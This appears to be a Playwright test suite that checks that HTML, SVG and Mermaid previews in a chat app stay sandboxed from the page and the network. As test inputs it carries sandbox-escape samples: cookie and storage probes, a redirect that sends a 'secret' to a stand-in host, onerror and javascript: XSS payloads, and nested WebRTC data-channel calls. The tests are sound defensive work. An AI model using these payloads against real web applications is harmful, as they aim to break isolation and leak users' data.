"""HTML, SVG and diagrams of an answer in a frame: shown, and shut off from the page and from the network."""

from __future__ import annotations

import socket

import pytest

expect = pytest.importorskip("playwright.sync_api").expect

HTML = """<h1>Tides</h1><p id="said">no</p><script>
const found = [];
try { found.push(parent.document.title) } catch { found.push('no page') }
try { localStorage.x = 1; found.push('storage') } catch { found.push('no storage') }
try { document.cookie; found.push('cookies') } catch { found.push('no cookies') }
fetch('https://elsewhere.example/').catch(() => found.push('no network')).then(() => fetch('/api/sessions'))
  .catch(() => found.push('no server')).then(() => { document.getElementById('said').textContent = found.join(', ') });
</script>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>A disc</title><circle cx="5" cy="5" r="4"/></svg>'


@pytest.fixture
def answered(wired, stage, page_watch):
    """A function that opens a chat with one answer, and returns it."""
    page_watch.forgive()  # what a frame tries is refused, which the console says

    def open_chat(markdown: str):
        chat = wired()[0].open()
        with stage.by_hand() as next_answer:
            chat.start("A page, please.")
            next_answer().finish(markdown)
        chat.wait_done()
        return chat

    return open_chat


def test_html_runs_in_a_frame_without_origin_and_network(answered, page_watch, audit) -> None:
    page = answered(f"```html\n{HTML}\n```\n\n```svg\n{SVG}\n```\n\n```python\nprint(1)\n```").page
    buttons = page.get_by_role("button", name="Preview")
    expect(buttons).to_have_count(2)
    buttons.first.click()
    frame = page.frame_locator("iframe").first
    expect(frame.locator("#said")).to_have_text("no page, no storage, no cookies, no network, no server")
    assert audit(page) == []
    assert page_watch.foreign == [], "nothing was asked of another origin"
    page.get_by_role("button", name="Code", exact=True).click()
    expect(page.locator("iframe")).to_have_count(0)
    expect(page.locator(".code pre").first).to_be_visible()
    buttons.last.click()
    expect(page.frame_locator("iframe").locator("circle")).to_be_visible()


def test_a_frame_cannot_lead_elsewhere(answered) -> None:
    away = "<p>here</p><script>location = 'https://elsewhere.example/?secret'; open('https://elsewhere.example/')</script>"
    page = answered(f"```html\n{away}\n```").page
    with page.expect_console_message(lambda message: "frame" in message.text.lower()):
        page.get_by_role("button", name="Preview").click()
    assert len(page.context.pages) == 1


def test_a_diagram_is_drawn_without_network_and_what_is_none_is_said(answered, page_watch, audit) -> None:
    flow = 'flowchart LR\n  A[Low tide] --> B["<img src=x onerror=alert(1)>High?"]\n  click A href "javascript:alert(1)"'
    page = answered(f"```mermaid\n{flow}\n```\n\n```mermaid\nno such </pre><script>diagram\n```").page
    buttons = page.get_by_role("button", name="Preview")
    expect(buttons).to_have_count(2)
    buttons.first.click()
    frame = page.frame_locator("iframe").first
    expect(frame.locator("svg")).to_contain_text("Low tide")
    expect(frame.locator("[onerror], a[href^=javascript]")).to_have_count(0)
    buttons.last.click()
    wrong = page.frame_locator("iframe").last
    expect(wrong.get_by_role("alert")).to_contain_text("This is no diagram that Mermaid can draw.")
    assert audit(page) == [] and page_watch.foreign == []


def test_a_frame_cannot_call_anybody(answered) -> None:
    """WebRTC asks any host that a page names, and no browser lets a content security policy forbid it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:
        elsewhere.bind(("127.0.0.1", 0))
        server = f"{{iceServers: [{{urls: 'stun:127.0.0.1:{elsewhere.getsockname()[1]}'}}]}}"
        call = f"""<p id="said">trying</p><script>
        const said = text => {{ document.getElementById('said').textContent = text }};
        try {{
          const call = new RTCPeerConnection({server});
          call.createDataChannel('secret');
          call.onicegatheringstatechange = () => {{ if (call.iceGatheringState === 'complete') said('called') }};
          call.createOffer().then(offer => call.setLocalDescription(offer));
        }} catch {{ said('no calls') }}
        </script>"""
        page = answered(f"```html\n{call}\n```").page
        with page.expect_response("**/sandbox") as response:
            page.get_by_role("button", name="Preview").click()
        expect(page.frame_locator("iframe").locator("#said")).to_have_text("no calls")
        elsewhere.setblocking(False)
        with pytest.raises(BlockingIOError):
            elsewhere.recv(1)
    assert response.value.headers["connection-allowlist"] == "()", "for frames within the frame"


# The text of a frame that calls somebody, also within a program.
CALLING = r"<script>new RTCPeerConnection().createDataChannel(1)<\/script>"
NESTED = {
    "read": f"<iframe srcdoc='{CALLING.replace(chr(92), '')}'></iframe>",
    "set by a program": f"<script>const f = document.createElement('iframe'); f.srcdoc = `{CALLING}`; document.body.append(f)</script>",
    "written in pieces": f"<script>for (const c of `<iframe srcdoc='{CALLING}'></iframe>`) document.write(c)</script>",
    "in a shadow": f"<div><template shadowrootmode=closed><iframe srcdoc='{CALLING.replace(chr(92), '')}'></iframe></template></div>",
}


@pytest.mark.parametrize("how", NESTED)
def test_a_frame_within_the_frame_cannot_call_anybody_either_and_the_page_lives_on(
    how: str, answered
) -> None:
    """Chromium ends the tab of a page in which a frame calls somebody whom its policy forbids."""
    chat = answered(f"```html\n<body><h1>Shown</h1>{NESTED[how]}\n```")
    page = chat.page
    page.get_by_role("button", name="Preview").click()
    expect(page.frame_locator("iframe").get_by_role("heading", name="Shown")).to_be_visible()
    for frame in page.frames:
        frame.wait_for_load_state()
    page.get_by_role("button", name="Code", exact=True).click()
    chat.ask("Are you still there?")
